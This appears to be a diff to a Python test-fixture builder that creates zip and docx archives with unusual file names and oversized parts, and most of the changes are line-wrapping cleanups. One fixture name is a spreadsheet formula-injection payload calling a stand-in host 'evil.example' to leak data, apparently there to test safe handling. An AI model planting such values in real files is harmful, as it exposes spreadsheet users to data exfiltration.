@@ -32,7 +32,7 @@ from pathlib import Path
 HERE = Path(__file__).resolve().parent
 sys.path.insert(0, str(HERE))
 
-from families import FAMILIES, no_punctuation  # the bench folder, put on the path above
+from families import FAMILIES, no_punctuation  # noqa: E402 - the bench folder, put on the path above
 
 MB = 1024 * 1024
 # Prints the peak RSS of its largest descendant: ru_maxrss of RUSAGE_CHILDREN, in a process that
@@ -65,7 +65,8 @@ class Archive:
     values: dict[str, list[float]] = field(default_factory=dict)  # path -> figure values it must have
 
 
-def _zip(members: dict[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED, level: int | None = None) -> bytes:
+def _zip(members: dict[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED,
+         level: int | None = None) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", method, compresslevel=level) as archive:
         for name, data in members.items():
@@ -81,7 +82,8 @@ def _docx(xml_body: str, *, level: int | None = None) -> bytes:
     xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.'
            f'openxmlformats.org/wordprocessingml/2006/main"><w:body>{xml_body}</w:body></w:document>').encode()
     out = io.BytesIO()
-    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
+    with (zipfile.ZipFile(base) as source,
+          zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package):
         for info in source.infolist():
             package.writestr(info.filename, xml if info.filename == "word/document.xml" else source.read(info))
     return out.getvalue()
@@ -122,7 +124,8 @@ def build(root: Path, sizes: Sizes) -> Archive:
     for n, (raw, shown) in enumerate([
         ("报告.txt".encode("gbk"), r"\xb1\xa8\xb8\xe6.txt"),
         ("两行\n名字.txt".encode(), r"两行\n名字.txt"),
-        ('=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'.encode(), '=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'),
+        ('=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'.encode(),
+         '=HYPERLINK("http:\\\\evil.example\\?leak","报告").txt'),
     ]):
         with open(os.path.join(os.fsencode(folder / "good"), raw), "wb") as stream:
             stream.write(body.format(n=n + 1).encode())
@@ -201,7 +204,8 @@ def build(root: Path, sizes: Sizes) -> Archive:
     rng = random.Random(3)
     paragraphs, length = [], 0
     while length < sizes.part_bytes:
-        paragraphs.append("<w:p><w:r><w:t>" + "".join(f"产值{rng.randrange(10**6)}亿元" for _ in range(20)) + "</w:t></w:r></w:p>")
+        figures = "".join(f"产值{rng.randrange(10**6)}亿元" for _ in range(20))
+        paragraphs.append(f"<w:p><w:r><w:t>{figures}</w:t></w:r></w:p>")
         length += len(paragraphs[-1].encode())
     (bad / "big_part.docx").write_bytes(_docx("".join(paragraphs)))
     failure("big_part.docx", "too large")
